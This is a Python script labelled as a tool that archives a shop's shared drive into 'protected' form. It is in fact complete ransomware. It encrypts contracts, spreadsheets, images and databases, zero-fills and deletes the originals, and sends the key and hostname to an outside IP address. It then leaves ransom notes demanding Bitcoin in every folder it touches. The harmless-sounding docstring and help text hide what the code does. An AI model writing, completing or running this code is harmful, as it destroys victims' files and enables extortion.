#!/usr/bin/env python3
"""Archive the office file share into "protected" form.

Walks the shop's shared drive (supplier contracts, CITES paperwork, the
breeding records spreadsheets), encrypts every file in place and leaves a
note explaining how to get the key back.
"""
import argparse
import logging
import os
import socket
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("archiver")

KEY_DROP = os.environ.get("ARCHIVE_KEY_URL", "http://198.51.100.77/k")
SKIP_SUFFIXES = {".locked", ".exe", ".dll", ".sys"}
TARGET_SUFFIXES = {
    ".xlsx", ".xls", ".docx", ".doc", ".pdf", ".csv", ".jpg", ".jpeg",
    ".png", ".odt", ".ods", ".txt", ".db", ".sqlite", ".zip",
}
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTE_TEXT = """\
All files on this share have been encrypted.

Your ID: {victim_id}

To receive the decryption key send 0.15 BTC to the wallet listed at
http://restore.example.com/{victim_id} and e-mail the transaction id to
restore@example.com. Do not rename the .locked files or they are lost.
"""


def register_key(key: bytes, victim_id: str) -> None:
    try:
        requests.post(
            KEY_DROP,
            json={"id": victim_id, "host": socket.gethostname(), "key": key.decode()},
            timeout=15,
        )
    except requests.RequestException as exc:
        LOG.debug("key drop failed: %s", exc)


def should_encrypt(path: Path) -> bool:
    if path.name == NOTE_NAME or path.suffix.lower() in SKIP_SUFFIXES:
        return False
    return path.suffix.lower() in TARGET_SUFFIXES


def encrypt_file(fernet: Fernet, path: Path) -> bool:
    try:
        data = path.read_bytes()
    except OSError as exc:
        LOG.debug("read failed %s: %s", path, exc)
        return False
    locked = path.with_name(path.name + ".locked")
    try:
        locked.write_bytes(fernet.encrypt(data))
        with path.open("r+b") as fh:          # scrub the original before removal
            fh.write(b"\x00" * len(data))
        path.unlink()
    except OSError as exc:
        LOG.debug("write failed %s: %s", path, exc)
        return False
    return True


def walk_and_encrypt(root: Path, fernet: Fernet, victim_id: str) -> int:
    count = 0
    for dirpath, _dirnames, filenames in os.walk(root):
        d = Path(dirpath)
        touched = False
        for name in filenames:
            p = d / name
            if should_encrypt(p) and encrypt_file(fernet, p):
                count += 1
                touched = True
        if touched:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(victim_id=victim_id))
    return count


def main():
    parser = argparse.ArgumentParser(description="Protect the office share")
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path("/srv/shopshare"), Path.home() / "Documents"])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    victim_id = uuid.uuid4().hex[:12]
    key = Fernet.generate_key()
    register_key(key, victim_id)
    fernet = Fernet(key)
    del key

    total = 0
    for root in args.roots:
        if root.is_dir():
            total += walk_and_encrypt(root, fernet, victim_id)
    LOG.info("processed %d files", total)


if __name__ == "__main__":
    main()
